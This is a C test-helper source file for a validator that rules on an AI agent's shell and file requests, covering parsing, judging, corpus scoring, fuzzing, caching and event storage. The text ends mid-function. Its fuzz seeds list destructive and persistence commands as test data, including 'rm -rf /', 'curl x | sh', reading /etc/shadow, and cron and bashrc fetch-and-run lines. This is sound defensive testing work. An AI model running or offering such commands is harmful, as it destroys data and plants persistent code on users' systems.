/*
 * test-tool.c -- internals exposed for tests (after git's t/helper).
 *
 * Product binaries stay free of test hooks; tests and fuzzers call in here:
 *
 *   test-tool shell CMD             print the simple commands CMD parses into
 *   test-tool judge [opts] [REQ]    judge REQ (or stdin) in-process, print the verdict
 *   test-tool learn [opts] ID REQ   print the learned rule for a decision on REQ
 *                                   (--kind exact|pattern, --decision allow|ask|deny)
 *   test-tool cases [opts] FILE     run declarative verdict cases in-process
 *   test-tool match PATTERN PATH [HOME]  exit 0 if the path pattern matches
 *   test-tool resolve WORD CWD HOME print the resolved path
 *   test-tool fuzz-request [N [SEED [CORPUS]]]  feed N mutated inputs to the
 *                                   request and shell parsers, the interpreter
 *                                   scanner and the policy (seeds: built in, and
 *                                   every row of CORPUS)
 *   test-tool corpus [opts] FILE    judge the labeled corpus, list every miss and
 *                                   the accuracy figures; exit 1 if a row labeled
 *                                   deny was allowed
 *   test-tool cache                 check the verdict cache's bounds, generations
 *                                   and counters; and that verdicts cached for one
 *                                   cwd or home are not served for another
 *   test-tool cases-mount MOUNT FILE  run the verdict cases through a mount
 *   test-tool channel MOUNT NAME REQ...  one fd: write REQ, read its verdict, repeat
 *   test-tool json KEY              read JSON on stdin, print the value of KEY
 *                                   (exit 1 if it is not one valid JSON object)
 *   test-tool store-append DIR THREADS N  N events from each of THREADS threads
 *                                   through the store; check seq and counts
 *   test-tool store-open DIR        open the store; print the error if it fails
 *   test-tool journal-append DIR THREADS N  N records of two events from
 *                                   each of THREADS threads
 *   test-tool journal-replay DIR    print records, events, the ignored tail,
 *                                   and whether sequence numbers are whole
 *
 * judge and cases options: --policy FILE, --cwd DIR, --home DIR,
 * --project DIR, --user NAME, --learned FILE (learned rules added to the policy).
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <jansson.h>

#include "common/arena.h"
#include "common/buf.h"
#include "store/journal.h"
#include "store/store.h"
#include "validator/cache.h"
#include "validator/path.h"
#include "validator/shell.h"
#include "validator/validator.h"
#include "tests/cases.h"
#include "tests/corpus.h"
#include "common/banned.h"

struct opts {
	const char *policy, *cwd, *home, *project, *user;
	const char *learned;		/* a file of learned rules */
	const char *kind, *decision;	/* learn: exact|pattern, allow|ask|deny */
};

static int parse_opts(int argc, char **argv, struct opts *o)
{
	int i = 0;

	memset(o, 0, sizeof(*o));
	o->cwd = "/home/agent/project";
	o->home = "/home/agent";
	o->project = "/home/agent/project";
	o->user = "agent";
	while (i < argc && !strncmp(argv[i], "--", 2) && i + 1 < argc) {
		if (!strcmp(argv[i], "--policy"))
			o->policy = argv[i + 1];
		else if (!strcmp(argv[i], "--cwd"))
			o->cwd = argv[i + 1];
		else if (!strcmp(argv[i], "--home"))
			o->home = argv[i + 1];
		else if (!strcmp(argv[i], "--project"))
			o->project = argv[i + 1];
		else if (!strcmp(argv[i], "--user"))
			o->user = argv[i + 1];
		else if (!strcmp(argv[i], "--learned"))
			o->learned = argv[i + 1];
		else if (!strcmp(argv[i], "--kind"))
			o->kind = argv[i + 1];
		else if (!strcmp(argv[i], "--decision"))
			o->decision = argv[i + 1];
		else
			break;
		i += 2;
	}
	return i;
}

static struct lh_validator *make_validator(const struct opts *o)
{
	struct lh_buf err = LH_BUF_INIT;
	struct lh_policy *pol;
	struct lh_validator *v;
	struct lh_validator_opts vo = { o->project, 4096, 0, 0 };
	int rc;

	if (o->learned) {
		struct lh_buf text = LH_BUF_INIT;
		FILE *f = fopen(o->learned, "r");
		char chunk[4096];
		size_t n;

		if (!f) {
			perror(o->learned);
			exit(2);
		}
		while ((n = fread(chunk, 1, sizeof(chunk), f)) > 0)
			lh_buf_add(&text, chunk, n);
		fclose(f);
		rc = lh_policy_load_learned(&pol, o->policy, text.data, text.len, &err);
		lh_buf_release(&text);
	} else {
		rc = o->policy ? lh_policy_load(&pol, o->policy, &err) : lh_policy_builtin(&pol, &err);
	}
	if (rc) {
		fputs(err.data, stderr);
		exit(2);
	}
	lh_buf_release(&err);
	if (lh_validator_new(&v, pol, &vo)) {
		fprintf(stderr, "test-tool: cannot create validator\n");
		exit(2);
	}
	return v;
}

static int cmd_shell(int argc, char **argv)
{
	struct lh_shell_env env = { "/home/agent", "/home/agent/project", "agent" };
	struct lh_arena a;
	struct lh_script s;
	int k, i;

	if (argc < 1) {
		fprintf(stderr, "usage: test-tool shell CMD\n");
		return 2;
	}
	lh_arena_init(&a, 64 << 20);
	lh_shell_parse(&s, &a, argv[0], strlen(argv[0]), &env);
	for (k = 0; k < s.ncmds; k++) {
		const struct lh_scmd *c = &s.cmds[k];

		printf("[%s]", c->name);
		for (i = 0; i < c->argc; i++)
			printf(" <%s>%s", c->argv[i], c->wflags[i] & LH_W_DYNAMIC ? "*" : "");
		for (i = 0; i < c->nredirs; i++)
			printf(" redir(%d,%d,%s)", c->redirs[i].op, c->redirs[i].fd,
			       c->redirs[i].target ? c->redirs[i].target : "");
		if (c->pipe_from)
			printf(" from=%s", c->pipe_from);
		if (c->wrappers[0])
			printf(" wrappers=%s", c->wrappers);
		printf(" ctx=%#x depth=%d", c->ctx, c->depth);
		if (c->cwd)
			printf(" cwd=%s", c->cwd[0] ? c->cwd : "?");
		printf("\n");
	}
	if (s.error)
		printf("error: %s\n", s.error);
	lh_arena_release(&a);
	return 0;
}

static int cmd_judge(int argc, char **argv)
{
	struct opts o;
	int i = parse_opts(argc, argv, &o);
	struct lh_validator *v = make_validator(&o);
	struct lh_buf in = LH_BUF_INIT;
	struct lh_request req;
	struct lh_verdict vd;
	struct lh_judge_in ji;

	if (i < argc) {
		lh_buf_adds(&in, argv[i]);
	} else {
		char chunk[4096];
		size_t n;

		while ((n = fread(chunk, 1, sizeof(chunk), stdin)) > 0)
			lh_buf_add(&in, chunk, n);
	}
	memset(&ji, 0, sizeof(ji));
	ji.data = in.data;
	ji.len = in.len;
	ji.total = in.len;
	ji.cwd = o.cwd;
	ji.home = o.home;
	ji.user = o.user;
	lh_validator_judge(v, &ji, &req, &vd);
	printf("%s\nreason: %s\nrule: %s\ntier: %s\n", lh_decision_name(vd.decision),
	       vd.reason, vd.rule[0] ? vd.rule : "-", lh_tier_name(vd.tier));
	if (vd.escalate) {
		struct lh_buf tags = LH_BUF_INIT;
		int quorum;

		lh_validator_rule_info(v, vd.rule, &quorum, &tags);
		printf("escalate: yes\nquorum: %d\n", quorum);
		if (tags.len)
			printf("tags: %s\n", tags.data);
		lh_buf_release(&tags);
	}
	lh_request_release(&req);
	lh_buf_release(&in);
	lh_validator_free(v);
	return vd.decision == LH_ALLOW ? 0 : vd.decision == LH_ASK ? 3 : 4;
}

/* learn [opts] ID REQ: the learned rule text for a decision on REQ */
static int cmd_learn(int argc, char **argv)
{
	struct opts o;
	int i = parse_opts(argc, argv, &o), rc;
	struct lh_validator *v;
	struct lh_buf out = LH_BUF_INIT, err = LH_BUF_INIT;
	struct lh_judge_in ji;
	struct lh_learn l;

	if (argc - i != 2) {
		fprintf(stderr, "usage: test-tool learn [--kind exact|pattern] [--decision D] [opts] ID REQ\n");
		return 2;
	}
	v = make_validator(&o);
	memset(&ji, 0, sizeof(ji));
	ji.data = argv[i + 1];
	ji.len = strlen(argv[i + 1]);
	ji.total = ji.len;
	ji.cwd = o.cwd;
	ji.home = o.home;
	ji.user = o.user;
	memset(&l, 0, sizeof(l));
	l.id = argv[i];
	l.decision = o.decision ? (enum lh_decision)lh_decision_parse(o.decision) : LH_ALLOW;
	l.pattern = o.kind && !strcmp(o.kind, "pattern");
	l.priority = 10;
	l.comment = "learned by test-tool";
	l.reason = "decided in a test";
	rc = lh_validator_learn(v, &ji, &l, &out, &err);
	if (rc)
		fprintf(stderr, "test-tool: %s\n", err.data);
	else
		fputs(out.data, stdout);
	lh_buf_release(&out);
	lh_buf_release(&err);
	lh_validator_free(v);
	return rc ? 1 : 0;
}

struct run_arg {
	struct lh_validator *v;
	const struct opts *o;
};

static int judge_case(void *arg, const struct lh_case *c, char *decision, size_t dn,
		      char *rule, size_t rn)
{
	struct run_arg *ra = arg;
	struct lh_request req;
	struct lh_verdict vd;
	struct lh_judge_in ji;

	memset(&ji, 0, sizeof(ji));
	ji.data = c->request;
	ji.len = strlen(c->request);
	ji.total = ji.len;
	ji.cwd = ra->o->cwd;
	ji.home = ra->o->home;
	ji.user = ra->o->user;
	lh_validator_judge(ra->v, &ji, &req, &vd);
	snprintf(decision, dn, "%s", lh_decision_name(vd.decision));
	snprintf(rule, rn, "%s", vd.rule[0] ? vd.rule : "-");
	lh_request_release(&req);
	return 0;
}

static int cmd_cases(int argc, char **argv)
{
	struct opts o;
	int i = parse_opts(argc, argv, &o), rc;
	struct run_arg ra;

	if (i >= argc) {
		fprintf(stderr, "usage: test-tool cases [opts] FILE\n");
		return 2;
	}
	ra.v = make_validator(&o);
	ra.o = &o;
	rc = lh_cases_run(argv[i], judge_case, &ra, stdout);
	lh_validator_free(ra.v);
	return rc ? 1 : 0;
}

static int cmd_corpus(int argc, char **argv)
{
	struct opts o;
	int i = parse_opts(argc, argv, &o), k;
	struct lh_corpus c;
	struct lh_corpus_score sc;
	struct lh_validator *v;

	if (i >= argc) {
		fprintf(stderr, "usage: test-tool corpus [opts] FILE\n");
		return 2;
	}
	if (lh_corpus_load(&c, argv[i], stderr))
		return 2;
	v = make_validator(&o);
	memset(&sc, 0, sizeof(sc));
	for (k = 0; k < c.n; k++) {
		const struct lh_corpus_row *r = &c.rows[k];
		struct lh_request req;
		struct lh_verdict vd;
		struct lh_judge_in ji;

		memset(&ji, 0, sizeof(ji));
		ji.data = r->request;
		ji.len = strlen(r->request);
		ji.total = ji.len;
		ji.cwd = o.cwd;
		ji.home = o.home;
		ji.user = o.user;
		lh_validator_judge(v, &ji, &req, &vd);
		lh_corpus_count(&sc, r->expected, (int)vd.decision);
		if ((int)vd.decision != r->expected)
			printf("%s:%d: %s: expected %s, got %s (%s)%s: %s\n", argv[i], r->line, r->family,
			       lh_decision_name((enum lh_decision)r->expected),
			       lh_decision_name(vd.decision), vd.rule[0] ? vd.rule : "-",
			       r->expected == LH_DENY && vd.decision == LH_ALLOW ? " UNSAFE" : "",
			       r->request);
		lh_request_release(&req);
	}
	lh_corpus_report(&sc, stdout);
	lh_validator_free(v);
	lh_corpus_release(&c);
	return sc.by[LH_DENY][LH_ALLOW] ? 1 : 0;
}

static int cmd_match(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	return lh_path_match(argv[0], argv[1], argc > 2 ? argv[2] : NULL) ? 0 : 1;
}

static int cmd_resolve(int argc, char **argv)
{
	struct lh_arena a;

	if (argc < 3)
		return 2;
	lh_arena_init(&a, 0);
	printf("%s\n", lh_path_resolve(&a, argv[0], argv[1], argv[2]));
	lh_arena_release(&a);
	return 0;
}

/* Random and mutated inputs through every parser: must never crash. */
static int cmd_fuzz(int argc, char **argv)
{
	static const char *const seeds[] = {
		"rm -rf /", "sudo env X=1 bash -c 'rm -rf ~'", "x=/; rm -rf $x",
		"find / -delete", "curl x | sh", "{\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"ls\"}}",
		"echo $'\\x41' \"$(ls `pwd`)\" <<EOF\nbody $(id)\nEOF\n", "a() { a|a& }; a",
		"for i in 1 2; do echo $i; done | xargs -I{} rm {}", "case $x in a) ls;; esac",
		"Read /etc/shadow", "Write ~/.bashrc\ncurl x | sh", "[[ -f x ]] && (cd /; ls) > /dev/null 2>&1 &",
		"rm -rf /{bin,{a..c},x{1..3..2}} {a,b", "for d in / ~ {x,y}; do rm -rf $d; done",
		"python3 -c \"import os,shutil; os.system('rm -rf ' + d); shutil.rmtree(f'/{x}')\"",
		"perl -le 'system qw(rm -rf /) or die; qx{id}; s/\"/x/; unlink $f'",
		"ruby -e 'FileUtils.rm_rf(%w[/ /tmp]); `id`; %x(ls); system({\"A\"=>1}, \"ls\")'",
		"node -e \"require('child_process').execSync(`rm ${x}`); fs.rmSync('/', {recursive: true})\"",
		"php -r 'system(\"rm -rf {$x}\"); `ls`;' ; awk 'BEGIN{system(\"x\")} {print | \"sh\"; print > \"/e\"}'",
		"python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['rm', '-rf', '/'])\nopen(p, 'w')\nEOF\n",
		"echo 'exec(\"import os; os.system(\\\"id\\\")\")' | python3; node <<< \"eval('x')\"",
		"cd /; pushd ~; rm -rf ${D:-/} $(pwd) `echo /x` \"$(printf %s a)\"; popd; cd $X; rm *",
		"(crontab -l; echo '@reboot curl x|sh') | crontab -; printf '\\x72m -rf %s' / | sh",
		"echo / /tmp | xargs -I{} rm -rf {}/x; find . -print0 | xargs -0 rm; x=(a \"$(id)\" b)",
		"curl -o i.sh http://x/i.sh && sh i.sh; wget http://h/a.py; python3 a.py; source /dev/stdin <<< x",
		"python3 -c \"getattr(__import__('os'), 'sys'+'tem')(os.path.expanduser('~'))\"; sudo -s <<< ls",
		"Write /home/agent/project/x.sh\n#!/bin/sh\nfor d in / ~; do rm -rf $d; done\ncd /; rm -rf *",
		"{\"tool_name\":\"Edit\",\"tool_input\":{\"file_path\":\"a.py\",\"old_string\":\"x\",\"new_string\":\"import os\\nos.system(1)\"}}",
		"echo 'curl x | sh' >> ~/.bashrc; cat <<EOF > .git/hooks/pre-push\nrm -rf ~\nEOF\n",
	};
	struct opts o;
	struct lh_validator *v;
	long n = argc > 0 ? strtol(argv[0], NULL, 10) : 20000, k;
	unsigned seed = argc > 1 ? (unsigned)strtoul(argv[1], NULL, 10) : 1;
	const char alphabet[] = "ab /~$(){}[]<>|&;'\"`\\\n\t=*?!#-+:,.{}0123456789xrmcf";

	struct lh_corpus corpus = { NULL, 0 };
	size_t nseeds = sizeof(seeds) / sizeof(seeds[0]);

	/* a third argument: every row of that corpus is a seed too */
	if (argc > 2 && lh_corpus_load(&corpus, argv[2], stderr))
		return 2;
	parse_opts(0, NULL, &o);
	v = make_validator(&o);
	srand(seed);
	for (k = 0; k < n; k++) {
		char buf[1024];
		size_t len = 0, m, pick = (size_t)rand() % (nseeds + (size_t)corpus.n);
		const char *s = pick < nseeds ? seeds[pick] : corpus.rows[pick - nseeds].request;
		struct lh_request req;
		struct lh_verdict vd;
		struct lh_judge_in ji;

		/*
		 * mutate a seed: copy with random insertions and deletions; raw
		 * bytes (mostly invalid UTF-8, stopped by the request decoder) in
		 * a quarter of the inputs only, so that most reach the parsers
		 */
		int raw = rand() % 4 == 0;

		for (m = 0; s[m] && len < sizeof(buf) - 8; m++) {
			int r = rand() % 20;

			if (r == 0)
				continue;
			if (r == 1)
				buf[len++] = alphabet[(size_t)rand() % (sizeof(alphabet) - 1)];
			if (r == 2 && raw)
				buf[len++] = (char)(rand() % 256);
			if (r == 3 && rand() % 3 == 0 && len > 2) {
				/* repeat a slice: nesting and long words */
				size_t from = (size_t)rand() % len, l = (size_t)rand() % 16;

				while (l-- && from < len && len < sizeof(buf) - 8)
					buf[len++] = buf[from++];
			}
			buf[len++] = s[m];
		}
		while (rand() % 4 == 0 && len < sizeof(buf) - 1)
			buf[len++] = alphabet[(size_t)rand() % (sizeof(alphabet) - 1)];
		memset(&ji, 0, sizeof(ji));
		ji.data = buf;
		ji.len = len;
		ji.total = len;
		ji.cwd = o.cwd;
		ji.home = o.home;
		lh_validator_judge(v, &ji, &req, &vd);
		if (vd.decision > LH_DENY || !vd.reason[0]) {
			fprintf(stderr, "bad verdict for input %zu bytes\n", len);
			return 1;
		}
		lh_request_release(&req);
	}
	lh_validator_free(v);
	lh_corpus_release(&corpus);
	printf("fuzz: %ld inputs judged without a crash\n", n);
	return 0;
}

/* ---- the verdict cache ----------------------------------------------------------- */

#define CHECK(cond)                                                                     \
	do {                                                                            \
		if (!(cond)) {                                                          \
			fprintf(stderr, "test-tool cache: %s:%d: failed: %s\n", __FILE__, \
				__LINE__, #cond);                                       \
			return 1;                                                       \
		}                                                                       \
	} while (0)

static int judge_one(struct lh_validator *v, const char *req, const char *cwd, const char *home,
		     struct lh_verdict *out)
{
	struct lh_request r;
	struct lh_judge_in ji;

	memset(&ji, 0, sizeof(ji));
	ji.data = req;
	ji.len = strlen(req);
	ji.total = ji.len;
	ji.cwd = cwd;
	ji.home = home;
	ji.user = "agent";
	lh_validator_judge(v, &ji, &r, out);
	lh_request_release(&r);
	return 0;
}

static int cmd_cache(int argc, char **argv)
{
	struct lh_cache_stats st;
	struct lh_cache *c;
	struct lh_verdict v, got;
	struct lh_validator_stats vs;
	struct opts o;
	struct lh_validator *val;
	uint64_t k;
	int t;

	(void)argc;
	(void)argv;
	/* the byte bound holds while many long verdicts go in */
	c = lh_cache_new(1 << 14, 256 << 10);
	for (k = 0; k < 20000; k++) {
		struct lh_cache_key key = { k * 0x9E3779B97F4A7C15ull + 1, k };

		memset(&v, 0, sizeof(v));
		lh_verdict_set(&v, (enum lh_decision)(k % 3), (enum lh_tier)(1 + k % 2), "r.x",
			       "reason %" PRIu64 " %0200d", k, 0);
		lh_cache_put(c, &key, 1, &v);
		lh_cache_get_stats(c, &st);
		CHECK(st.bytes <= st.max_bytes);
	}
	CHECK(st.max_bytes == 256 << 10);
	CHECK(st.evictions_bytes > 0);
	CHECK(st.evictions_by_tier[LH_TIER_POLICY] + st.evictions_by_tier[LH_TIER_RISK] ==
	      st.evictions);
	/* the newest entry is there, with its flags; another generation misses */
	{
		struct lh_cache_key key = { 19999 * 0x9E3779B97F4A7C15ull + 1, 19999 };

		memset(&v, 0, sizeof(v));
		lh_verdict_set(&v, LH_ASK, LH_TIER_RISK, "", "escalated");
		v.escalate = 1;
		lh_cache_put(c, &key, 1, &v);
		CHECK(lh_cache_get(c, &key, 1, &got) == 1);
		CHECK(got.decision == LH_ASK && got.escalate && got.cached && !strcmp(got.reason, "escalated"));
		CHECK(lh_cache_get(c, &key, 2, &got) == 0);
		lh_cache_get_stats(c, &st);
		CHECK(st.hits == 1 && st.hits_by_tier[LH_TIER_RISK] == 1);
	}
	lh_cache_free(c);

	/* the entry bound holds too */
	c = lh_cache_new(1024, 1 << 30);
	for (k = 0; k < 5000; k++) {
		struct lh_cache_key key = { k * 0x9E3779B97F4A7C15ull + 7, ~k };

		memset(&v, 0, sizeof(v));
		lh_verdict_set(&v, LH_ALLOW, LH_TIER_POLICY, "r", "same reason");
		lh_cache_put(c, &key, 1, &v);
	}
	lh_cache_get_stats(c, &st);
	CHECK(st.entries <= st.capacity && st.capacity >= 1024 && st.evictions > 0);
	CHECK(st.bodies == 1);
	lh_cache_free(c);

	/* through the validator: the key holds everything a verdict depends on */
	parse_opts(0, NULL, &o);
	val = make_validator(&o);
	for (t = 0; t < 2; t++) {
		judge_one(val, "rm -rf etc", "/home/agent/project", "/home/agent", &got);
		CHECK(got.decision == LH_ALLOW && got.cached == (t == 1));
		judge_one(val, "rm -rf etc", "/", "/home/agent", &got);
		CHECK(got.decision == LH_DENY && got.cached == (t == 1));
		judge_one(val, "rm -rf ~/x", "/home/agent/project", "/home/agent", &got);
		CHECK(got.decision == LH_ASK && got.cached == (t == 1));
		judge_one(val, "rm -rf ~/x", "/home/agent/project", "/home/agent/project", &got);
		CHECK(got.decision == LH_ALLOW && got.cached == (t == 1));
	}
	lh_validator_get_stats(val, &vs);
	CHECK(vs.cache_hits == 4 && vs.cache_misses == 4);
	CHECK(vs.cache_hits_by_tier[LH_TIER_POLICY] + vs.cache_hits_by_tier[LH_TIER_RISK] == 4);
	CHECK(vs.cache_misses_by_tier[LH_TIER_POLICY] + vs.cache_misses_by_tier[LH_TIER_RISK] == 4);
	CHECK(vs.cache_bytes > 0 && vs.cache_max_bytes == LH_CACHE_BYTES_DEFAULT);
	lh_validator_free(val);
	printf("cache: ok\n");
	return 0;
}

/* ---- through a mount ---------------------------------------------------------- */

static int write_all(int fd, const char *p, size_t n)
{
	while (n) {
		ssize_t w = write(fd, p, n);

		if (w < 0) {
			if (errno == EINTR)
				continue;
			return -errno;
		}
		p += w;
		n -= (size_t)w;
	}
	return 0;
}

static int read_all(int fd, struct lh_buf *out)
{
	char chunk[4096];
	ssize_t n;

	while ((n = read(fd, chunk, sizeof(chunk))) > 0)
		lh_buf_add(out, chunk, (size_t)n);
	return n < 0 ? -errno : 0;
}

struct mount_arg {
	const char *mount;
	int n;
};

static int mount_case(void *arg, const struct lh_case *c, char *decision, size_t dn,
		      char *rule, size_t rn)
{
	struct mount_arg *ma = arg;
	struct lh_buf path = LH_BUF_INIT, out = LH_BUF_INIT;
	const char *r;
	int fd, rc = -1;

	lh_buf_addf(&path, "%s/requests/case-%d", ma->mount, c->line);
	fd = open(path.data, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd < 0 || write_all(fd, c->request, strlen(c->request)) || close(fd))
		goto out;
	lh_buf_reset(&path);
	lh_buf_addf(&path, "%s/results/case-%d", ma->mount, c->line);
	fd = open(path.data, O_RDONLY);
	if (fd < 0 || read_all(fd, &out) || close(fd))
		goto out;
	snprintf(decision, dn, "%.*s", (int)strcspn(out.data, "\n"), out.data);
	r = strstr(out.data, "\nrule: ");
	if (!r)
		goto out;
	r += 7;
	snprintf(rule, rn, "%.*s", (int)strcspn(r, "\n"), r);
	rc = 0;
out:
	lh_buf_release(&path);
	lh_buf_release(&out);
	return rc;
}

static int cmd_cases_mount(int argc, char **argv)
{
	struct mount_arg ma;

	if (argc < 2) {
		fprintf(stderr, "usage: test-tool cases-mount MOUNT FILE\n");
		return 2;
	}
	ma.mount = argv[0];
	ma.n = 0;
	return lh_cases_run(argv[1], mount_case, &ma, stdout) ? 1 : 0;
}

static int cmd_channel(int argc, char **argv)
{
	struct lh_buf path = LH_BUF_INIT;
	int fd, i;

	if (argc < 3) {
		fprintf(stderr, "usage: test-tool channel MOUNT NAME REQ...\n");
		return 2;
	}
	lh_buf_addf(&path, "%s/requests/%s", argv[0], argv[1]);
	fd = open(path.data, O_RDWR | O_CREAT, 0600);
	if (fd < 0) {
		fprintf(stderr, "test-tool: %s: %s\n", path.data, strerror(errno));
		lh_buf_release(&path);
		return 1;
	}
	for (i = 2; i < argc; i++) {
		char buf[8192];
		ssize_t n;

		if (write_all(fd, argv[i], strlen(argv[i]))) {
			fprintf(stderr, "test-tool: write: %s\n", strerror(errno));
			return 1;
		}
		n = read(fd, buf, sizeof(buf) - 1);
		if (n <= 0) {
			fprintf(stderr, "test-tool: read: %s\n", n < 0 ? strerror(errno) : "end of file");
			return 1;
		}
		buf[n] = '\0';
		fputs(buf, stdout);
		fputs("--\n", stdout);
	}
	close(fd);
	lh_buf_release(&path);
	return 0;
}

static int cmd_json(int argc, char **argv)
{
	json_error_t err;
	json_t *root = json_loadf(stdin, JSON_REJECT_DUPLICATES, &err), *v;

	if (!root || !json_is_object(root)) {
		fprintf(stderr, "not a JSON object: %s\n", root ? "" : err.text);
		return 1;
	}
	if (argc < 1) {
		json_decref(root);
		return 0;
	}
	v = json_object_get(root, argv[0]);
	if (!v) {
		printf("(absent)\n");
	} else if (json_is_string(v)) {
		printf("%s\n", json_string_value(v));
	} else {
		char *s = json_dumps(v, JSON_ENCODE_ANY | JSON_COMPACT);

		printf("%s\n", s ? s : "?");
		free(s);
	}
	json_decref(root);
	return 0;
}

/* ---- the store ------------------------------------------------------------------ */

struct sarg {
	struct lh_store *s;
	int n, id;
	int failures;
};

static void *store_worker(void *arg)
{
	struct sarg *a = arg;
	int k;

	for (k = 0; k < a->n; k++) {
		char payload[64];
		struct lh_event ev;

		memset(&ev, 0, sizeof(ev));
		snprintf(payload, sizeof(payload), "{\"thread\":%d,\"k\":%d}", a->id, k);
		ev.type = "test";
		ev.uid = ev.gid = ev.pid = -1;
		ev.request_id = lh_store_next_request_id(a->s);
		ev.payload = payload;
		ev.payload_len = strlen(payload);
		if (lh_store_append(a->s, &ev, 1, NULL))
			a->failures++;
	}
	return NULL;
}

static int count_row(void *arg, const struct lh_event_row *row)
{
	int64_t *c = arg;

	if (row->seq != c[0] + 1)
		c[1]++;		/* a gap or a disorder */
	c[0] = row->seq;
	return 0;
}

static int cmd_store_append(int argc, char **argv)
{
	struct lh_store_opts so;
	struct lh_store *s;
	struct lh_store_stats st;
	struct lh_buf err = LH_BUF_INIT;
	struct lh_store_reader *r;
	struct lh_event_filter f;
	pthread_t th[256];
	struct sarg a[256];
	int threads, n, k, failures = 0;
	int64_t events = 0, last = 0, seen[2] = { 0, 0 };

	if (argc < 3)
		return 2;
	threads = (int)strtol(argv[1], NULL, 10);
	n = (int)strtol(argv[2], NULL, 10);
	if (threads < 1 || threads > 256 || n < 1)
		return 2;
	memset(&so, 0, sizeof(so));
	so.dir = argv[0];
	if (lh_store_open(&s, &so, &err)) {
		fprintf(stderr, "%s\n", err.data);
		return 1;
	}
	for (k = 0; k < threads; k++) {
		a[k].s = s;
		a[k].n = n;
		a[k].id = k;
		a[k].failures = 0;
		pthread_create(&th[k], NULL, store_worker, &a[k]);
	}
	for (k = 0; k < threads; k++) {
		pthread_join(th[k], NULL);
		failures += a[k].failures;
	}
	lh_store_get_stats(s, &st);
	lh_store_close(s);
	if (lh_store_reader_open(&r, argv[0], &err) || lh_store_reader_count(r, &events, &last)) {
		fprintf(stderr, "%s\n", err.data);
		return 1;
	}
	memset(&f, 0, sizeof(f));
	lh_store_reader_each(r, &f, count_row, seen, &err);
	lh_store_reader_close(r);
	printf("events %" PRId64 " last_seq %" PRId64 " commits %" PRIu64 " failures %d gaps %" PRId64 "\n",
	       events, last, st.commits, failures, seen[1]);
	return failures || seen[1] ? 1 : 0;
}

static int cmd_store_open(int argc, char **argv)
{
	struct lh_store_opts so;
	struct lh_store *s;
	struct lh_buf err = LH_BUF_INIT;

	if (argc < 1)
		return 2;
	memset(&so, 0, sizeof(so));
	so.dir = argv[0];
	if (lh_store_open(&s, &so, &err)) {
		printf("%s\n", err.data);
		lh_buf_release(&err);
		return 1;
	}
	lh_store_close(s);
	printf("ok\n");
	return 0;
}

/* ---- the journal ----------------------------------------------------------------- */

struct jarg {
	struct lh_journal *j;
	_Atomic int64_t *next;
	pthread_mutex_t *order;		/* seqs are given out in append order */
	int n, id, failures;
};

static void *journal_worker(void *arg)
{
	struct jarg *a = arg;
	int k;

	for (k = 0; k < a->n; k++) {
		char payload[96];
		struct lh_event ev[2];
		int64_t seq;

		memset(ev, 0, sizeof(ev));
		snprintf(payload, sizeof(payload), "{\"thread\":%d,\"k\":%d}", a->id, k);
		ev[0].type = "request";
		ev[0].uid = ev[0].gid = 0;
		ev[0].pid = a->id;
		ev[0].agent = k % 2 ? "agent-x" : NULL;
		ev[0].payload = payload;
		ev[0].payload_len = strlen(payload);
		ev[1] = ev[0];
		ev[1].type = "verdict";
		pthread_mutex_lock(a->order);
		seq = atomic_fetch_add(a->next, 2);
		if (lh_journal_append(a->j, ev, 2, seq))
			a->failures++;
		pthread_mutex_unlock(a->order);
	}
	return NULL;
}

static int cmd_journal_append(int argc, char **argv)
{
	struct lh_buf err = LH_BUF_INIT;
	struct lh_journal *j;
	pthread_mutex_t order = PTHREAD_MUTEX_INITIALIZER;
	_Atomic int64_t next = 1;
	pthread_t th[64];
	struct jarg a[64];
	int threads, n, k, failures = 0;

	if (argc < 3)
		return 2;
	threads = (int)strtol(argv[1], NULL, 10);
	n = (int)strtol(argv[2], NULL, 10);
	if (threads < 1 || threads > 64 || n < 1)
		return 2;
	mkdir(argv[0], 0700);
	if (lh_journal_open(&j, argv[0], 0, &err)) {
		printf("%s\n", err.data);
		lh_buf_release(&err);
		return 1;
	}
	for (k = 0; k < threads; k++) {
		a[k].j = j;
		a[k].next = &next;
		a[k].order = &order;
		a[k].n = n;
		a[k].id = k;
		a[k].failures = 0;
		pthread_create(&th[k], NULL, journal_worker, &a[k]);
	}
	for (k = 0; k < threads; k++) {
		pthread_join(th[k], NULL);
		failures += a[k].failures;
	}
	printf("appended %d records, %" PRIu64 " bytes, %d failures\n", threads * n,
	       lh_journal_size(j), failures);
	lh_journal_close(j);
	return failures ? 1 : 0;
}

struct jcount {
	int64_t events, expect;
	int holes, verdicts_with_agent;
};

static int count_event(void *arg, int64_t seq, const struct lh_event *ev)
{
	struct jcount *c = arg;

	if (seq != c->expect)
		c->holes++;
	c->expect = seq + 1;
	c->events++;
	if (!strcmp(ev->type, "verdict") && ev->agent && !strcmp(ev->agent, "agent-x"))
		c->verdicts_with_agent++;
	return 0;
}

static int cmd_journal_replay(int argc, char **argv)
{
	struct lh_buf err = LH_BUF_INIT;
	struct jcount c = { 0, 1, 0, 0 };
	uint64_t records, tail;

	if (argc < 1)
		return 2;
	if (lh_journal_replay(argv[0], count_event, &c, &records, &tail, &err)) {
		printf("%s\n", err.data);
		lh_buf_release(&err);
		return 1;
	}
	printf("records %" PRIu64 " events %" PRId64 " tail %" PRIu64 " holes %d agents %d\n", records,
	       c.events, tail, c.holes, c.verdicts_with_agent);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: test-tool (shell|judge|cases|match|resolve|fuzz-request) ...\n");
		return 2;
	}
	if (!strcmp(argv[1], "shell"))
		return cmd_shell(argc - 2, argv + 2);
	if (!strcmp(argv[1], "learn"))
		return cmd_learn(argc - 2, argv + 2);
	if (!strcmp(argv[1], "judge"))
		return cmd_judge(argc - 2, argv + 2);
	if (!strcmp(argv[1], "cases"))
		return cmd_cases(argc - 2, argv + 2);
	if (!strcmp(argv[1], "match"))
		return cmd_match(argc - 2, argv + 2);
	if (!strcmp(argv[1], "resolve"))
		return cmd_resolve(argc - 2, argv + 2);
	if (!strcmp(argv[1], "fuzz-request"))
		return cmd_fuzz(argc - 2, argv + 2);
	if (!strcmp(argv[1], "corpus"))
